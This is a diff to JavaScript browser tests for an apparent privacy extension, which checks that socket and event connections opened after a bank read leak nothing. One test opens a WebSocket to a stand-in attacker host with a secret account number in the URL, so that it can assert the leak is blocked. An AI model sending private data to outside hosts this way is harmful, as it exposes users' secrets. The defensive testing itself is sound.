@@ -78,18 +78,28 @@ const AS_EVER = `<script>
   events.addEventListener('tick', ({ data, target }) => { tell('tick-' + data, target === events); events.close(); tell('over', events.readyState === EventSource.CLOSED); });
 </script>`;
 
-test('what stands for a connection while it is judged is one to its page in all that pages do with it', {
-  timeout: 60_000,
-}, async () => {
-  const app = () => page({ title: 'App', name: 'App', head: raw(AS_EVER), body: raw('<a href="/out">Sign out</a>') });
-  const sites = await startSites({ extra: { [APP]: app } });
-  const hands = await playwrightHands({ extension, args: flagsFor(sites, [APP]) });
+/** Runs `use` after a private read at the bank, in a browser that is closed whatever happens; `problems`: what a page's scripts threw. */
+async function afterARead(host, site, use) {
+  const sites = await startSites({ extra: { [host]: site } });
+  const hands = await playwrightHands({ extension, args: flagsFor(sites, [host]) });
   const problems = [];
   hands.page.on('pageerror', (error) => problems.push(error.message));
   try {
     const scene = sceneOf(hands, sites);
     await signInToBank(hands, scene.world);
     await readBalance(hands, scene.memory);
+    await use({ sites, hands, problems });
+  } finally {
+    await hands.close();
+    await sites.close();
+  }
+}
+
+test('what stands for a connection while it is judged is one to its page in all that pages do with it', {
+  timeout: 60_000,
+}, async () => {
+  const app = () => page({ title: 'App', name: 'App', head: raw(AS_EVER), body: raw('<a href="/out">Sign out</a>') });
+  await afterARead(APP, app, async ({ hands, problems }) => {
     await hands.goto(`http://${APP}/`);
     const said = async () => (await hands.run('document.documentElement.dataset.said')).split(' ').sort();
     const all = [
@@ -100,10 +110,7 @@ test('what stands for a connection while it is judged is one to its page in all 
     await until(async () => (await said()).length >= all.length, 'all', 10_000).catch(() => undefined);
     assert.deepEqual(await said(), all.sort());
     assert.deepEqual(problems, []);
-  } finally {
-    await hands.close();
-    await sites.close();
-  }
+  });
 });
 
 test('a signed-in page has its socket and its events elsewhere, first used after a private read; nothing private leaves by them', {
@@ -116,15 +123,8 @@ test('a signed-in page has its socket and its events elsewhere, first used after
       head: raw(CONNECTS),
       body: raw(`<a href="/out">Sign out</a><p>Case ${OWN}</p>`),
     });
-  const sites = await startSites({ extra: { [APP]: app } });
-  const hands = await playwrightHands({ extension, args: flagsFor(sites, [APP]) });
-  const problems = [];
-  hands.page.on('pageerror', (error) => problems.push(error.message));
-  const sent = () => sites.collector.records.map(({ body }) => body);
-  try {
-    const scene = sceneOf(hands, sites);
-    await signInToBank(hands, scene.world);
-    await readBalance(hands, scene.memory);
+  await afterARead(APP, app, async ({ sites, hands, problems }) => {
+    const sent = () => sites.collector.records.map(({ body }) => body);
     for (let time = 0; time < 4; time += 1) {
       sites.collector.records.length = 0;
       await hands.goto('about:blank');
@@ -146,10 +146,7 @@ test('a signed-in page has its socket and its events elsewhere, first used after
     await hands.wait(1_500);
     assert.deepEqual(leaked(sites.collector.records, { ...SECRETS, case: OWN }), []);
     assert.equal(sent().filter((body) => body?.startsWith('note')).length, 0);
-  } finally {
-    await hands.close();
-    await sites.close();
-  }
+  });
 });
 
 test('a page opens a socket with its first script after a private read, and goes on; what was read leaves by none', {
@@ -157,14 +154,7 @@ test('a page opens a socket with its first script after a private read, and goes
 }, async () => {
   assert.ok(extension, 'nobody holds a socket without us');
   const chat = () => page({ title: 'Chat', name: 'Chat', head: raw(TALK), body: '' });
-  const sites = await startSites({ extra: { [CHAT]: chat } });
-  const hands = await playwrightHands({ extension, args: flagsFor(sites, [CHAT]) });
-  const problems = [];
-  hands.page.on('pageerror', (error) => problems.push(error.message));
-  try {
-    const scene = sceneOf(hands, sites);
-    await signInToBank(hands, scene.world);
-    await readBalance(hands, scene.memory);
+  await afterARead(CHAT, chat, async ({ sites, hands, problems }) => {
     const talk = (to) => hands.goto(`http://${CHAT}/?at=${encodeURIComponent(to)}`);
     // Whether it is known by then who is here is a matter of milliseconds.
     for (let time = 0; time < 6; time += 1) {
@@ -178,8 +168,5 @@ test('a page opens a socket with its first script after a private read, and goes
     await talk(`ws://${HOSTS.attacker}/room?d=${encodeURIComponent(SECRETS['account number'])}`);
     await hands.wait(2_500);
     assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
-  } finally {
-    await hands.close();
-    await sites.close();
-  }
+  });
 });
